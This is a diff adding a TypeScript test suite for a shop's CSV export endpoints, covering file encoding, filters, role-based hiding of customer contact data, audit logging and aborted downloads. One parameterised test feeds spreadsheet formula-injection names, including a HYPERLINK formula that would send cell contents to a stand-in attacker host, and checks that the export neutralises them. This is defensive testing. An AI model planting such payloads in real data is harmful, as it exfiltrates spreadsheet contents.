@@ -1,0 +1,209 @@
+import { once } from 'node:events'
+import { get, type IncomingMessage } from 'node:http'
+import { describe, expect, test } from 'vitest'
+import { auditOf } from '#tests/support/audit.ts'
+import { newBuyer, newProduct } from '#tests/support/buying.ts'
+import { downloadCsv } from '#tests/support/csv.ts'
+import { testShop } from '#tests/support/shop.ts'
+
+const shop = await testShop({ paymob: true })
+const { pool } = shop.database
+const admin = await shop.signIn('admin')
+const worker = await shop.signIn('worker')
+const asAdmin = shop.caller(admin.token)
+
+const couponBody = (code: string) => ({ code, discount: 5, expiresAt: '2030-01-01', usageLimit: 3 })
+const newCoupon = (code: string) => asAdmin('POST /api/coupons', { body: couponBody(code) })
+
+describe('the file', () => {
+  test('is UTF-8 with a byte-order mark, and its titles are in the reader’s language', async () => {
+    await newCoupon('PLAIN-1')
+    const arabic = await downloadCsv(shop, '/api/coupons/export', { ...admin, language: 'ar' })
+    expect(arabic.status).toBe(200)
+    expect(arabic.headers.get('content-type')).toBe('text/csv; charset=utf-8')
+    expect(arabic.headers.get('content-disposition')).toMatch(/^attachment; filename="coupons-[\d-]+\.csv"$/)
+    expect(arabic.text.startsWith('\uFEFF')).toBe(true)
+    expect(arabic.titles.slice(0, 3)).toEqual(['الكود', 'النوع', 'قيمة الخصم'])
+    const english = await downloadCsv(shop, '/api/coupons/export', admin)
+    expect(english.titles.slice(0, 3)).toEqual(['Code', 'Type', 'Discount'])
+  })
+
+  test('has ISO dates and plain numbers', async () => {
+    const { rows } = await downloadCsv(shop, '/api/coupons/export?search=plain-1', admin)
+    expect(rows).toEqual([
+      {
+        Code: 'PLAIN-1',
+        Type: 'percentage',
+        Discount: '5',
+        Status: 'active',
+        Used: '0',
+        'Usage limit': '3',
+        Expires: '2030-01-01T20:59:59.999Z',
+        Created: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/),
+      },
+    ])
+  })
+
+  test.each([
+    ['=HYPERLINK("http://evil.test?x="&A1)', `'=HYPERLINK("http://evil.test?x="&A1)`],
+    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
+    ['-2+3', `'-2+3`],
+    ['＝1+1', `'＝1+1`],
+    ['Nour, "the" first', 'Nour, "the" first'],
+    ['plain name', 'plain name'],
+  ])('a name like %s cannot run as a formula', async (name, exported) => {
+    const { userId } = await shop.signIn('user')
+    await pool.query('update users set full_name = $1, phone = $2 where id = $3', [
+      name,
+      '+966500000001',
+      userId,
+    ])
+    const { rows } = await downloadCsv(shop, '/api/users/export', admin)
+    const row = rows.find(({ ID }) => ID === userId)
+    expect(row?.['Full name']).toBe(exported)
+    expect(row?.Phone, 'a phone number is no formula').toBe('+966500000001')
+  })
+
+  test('contains the rows of the list with the same filter, in its order, all pages', async () => {
+    for (const number of [1, 2, 3]) await newCoupon(`SAME-${number}`)
+    const { data } = await asAdmin('GET /api/coupons', {
+      query: { search: 'same', sort: 'code', order: 'desc' },
+    })
+    const { rows } = await downloadCsv(shop, '/api/coupons/export?search=same&sort=code&order=desc', admin)
+    expect(rows.map(({ Code }) => Code)).toEqual(data.coupons.map(({ code }) => code))
+    expect(rows).toHaveLength(3)
+    const none = await downloadCsv(shop, '/api/coupons/export?search=nothing-like-it', admin)
+    expect(none.rows).toEqual([])
+    expect(none.titles).toContain('Code')
+  })
+
+  test('a filter that the list does not know is refused with JSON', async () => {
+    const { status, text } = await downloadCsv(shop, '/api/coupons/export?page=2', admin)
+    expect([status, JSON.parse(text).code]).toEqual([400, 'validation_failed'])
+  })
+})
+
+describe('every list', () => {
+  test('products follow search, category and status', async () => {
+    const shown = await newProduct(shop, undefined, { name: 'Exported film club' })
+    const hidden = await newProduct(shop, undefined, { name: 'Exported film attic', is_hidden: true })
+    const ids = async (query: string) =>
+      (await downloadCsv(shop, `/api/subscriptions/export?${query}`, worker)).rows.map(({ ID }) => ID).sort()
+    expect(await ids('search=exported+film')).toEqual([shown, hidden].sort())
+    expect(await ids('search=exported+film&status=hidden')).toEqual([hidden])
+    expect(await ids('search=zzqqxx')).toEqual([])
+    expect(await ids('category=nowhere')).toEqual([])
+  })
+
+  test('categories follow search and status', async () => {
+    const { rows } = await downloadCsv(shop, '/api/categories/export?status=active&search=music', worker)
+    expect(rows.map(({ ID }) => ID)).toEqual(['music'])
+    const none = await downloadCsv(shop, '/api/categories/export?status=inactive', worker)
+    expect(none.rows).toEqual([])
+  })
+
+  test('stock accounts carry masked user names and never a password', async () => {
+    const product = await newProduct(shop, 2)
+    const { text, rows } = await downloadCsv(shop, `/api/subscriptions/${product}/accounts/export`, admin)
+    expect(rows, text).toHaveLength(2)
+    expect(rows[0]).toMatchObject({ State: 'available', 'Duration (days)': '30' })
+    expect(rows[0]?.['User name (masked)']).toMatch(/^us•••@stock\.test$/)
+    expect(text).not.toMatch(/secret-|user-\d/)
+  })
+
+  test('orders tell a worker the buyer’s name, and an admin e-mail and phone number too', async () => {
+    const product = await newProduct(shop)
+    const buyer = await newBuyer(shop)
+    await pool.query(`update users set full_name = 'Buyer One', phone = '+966511111111' where id = $1`, [
+      buyer.userId,
+    ])
+    const order = await buyer.order(product)
+    const [{ email }] = (await pool.query('select email from users where id = $1', [buyer.userId])).rows
+    const path = `/api/orders/export?status=pending&search=${order.number}`
+    const byAdmin = await downloadCsv(shop, path, admin)
+    expect(byAdmin.rows).toEqual([
+      expect.objectContaining({
+        'Order number': String(order.number),
+        'Total (SAR)': '50',
+        Customer: 'Buyer One',
+        'E-mail': email,
+        Phone: '+966511111111',
+        Delivery: 'none',
+      }),
+    ])
+    const byWorker = await downloadCsv(shop, path, worker)
+    expect(byWorker.rows).toEqual([expect.objectContaining({ Customer: 'Buyer One' })])
+    expect(byWorker.text).not.toContain(email)
+    expect(byWorker.text).not.toContain('511111111')
+    expect((await downloadCsv(shop, '/api/orders/export?status=cancelled', admin)).rows).toEqual([])
+  })
+
+  test('delivered subscriptions tell a worker no e-mail address', async () => {
+    const product = await newProduct(shop)
+    const buyer = await newBuyer(shop)
+    const order = await buyer.order(product)
+    await asAdmin('PUT /api/orders/{id}', { params: { id: order.id }, body: { status: 'completed' } })
+    await asAdmin('PUT /api/orders/delivery', {
+      body: { orderItemId: order.items[0]?.id ?? '', delivered: true, deliveryEmail: 'handed@over.test' },
+    })
+    const path = '/api/subscriptions/delivered/export?search=handed@over.test'
+    const byAdmin = await downloadCsv(shop, path, admin)
+    expect(byAdmin.rows, byAdmin.text).toMatchObject([
+      { 'Order number': String(order.number), 'Delivery e-mail': 'handed@over.test' },
+    ])
+    const byWorker = await downloadCsv(shop, path, worker)
+    expect(byWorker.rows).toMatchObject([{ 'Order number': String(order.number) }])
+    expect(byWorker.text).not.toContain('over.test')
+  })
+
+  test('is recorded in the audit log, with filters and reason but not what was searched for', async () => {
+    const reason = 'asked for by the tax adviser'
+    await downloadCsv(
+      shop,
+      `/api/users/export?search=nour&role=user&reason=${encodeURIComponent(reason)}`,
+      admin,
+    )
+    const entries = await auditOf(shop, 'users')
+    expect(entries.at(-1)).toMatchObject({
+      action: 'users.export',
+      actor_id: admin.userId,
+      reason,
+      after: { role: 'user', isSearch: true },
+    })
+    expect(JSON.stringify(entries)).not.toContain('nour')
+  })
+})
+
+describe('a download', () => {
+  const running = async () => {
+    const { rows } = await pool.query(
+      `select count(*)::int as count from pg_stat_activity
+       where datname = current_database() and query like '%batches%' and state <> 'idle' and pid <> pg_backend_pid()`,
+    )
+    return rows[0].count as number
+  }
+
+  test('that the reader aborts frees its connection, and a third one at once is refused', async () => {
+    await pool.query(
+      `insert into coupons (code, type, discount_percent, expires_at, usage_limit)
+       select 'LONG-' || n || repeat('x', 40), 'percentage', 5, '2030-01-01', 1 from generate_series(1, 30000) n`,
+    )
+    const open = async () => {
+      const headers = { authorization: `Bearer ${admin.token}` }
+      const request = get(`${shop.url}/api/coupons/export`, { headers, agent: false })
+      const [response] = (await once(request, 'response')) as [IncomingMessage]
+      return { status: response.statusCode, abort: () => response.destroy() }
+    }
+    // Neither reads its body: both wait with an open cursor.
+    const [first, second] = await Promise.all([open(), open()])
+    expect([first.status, second.status]).toEqual([200, 200])
+    const third = await downloadCsv(shop, '/api/coupons/export', admin)
+    expect([third.status, JSON.parse(third.text).code]).toEqual([429, 'exports_busy'])
+    first.abort()
+    second.abort()
+    await expect.poll(running, { timeout: 10_000 }).toBe(0)
+    await expect
+      .poll(async () => (await downloadCsv(shop, '/api/coupons/export?search=plain', admin)).status)
+      .toBe(200)
+  })
+})
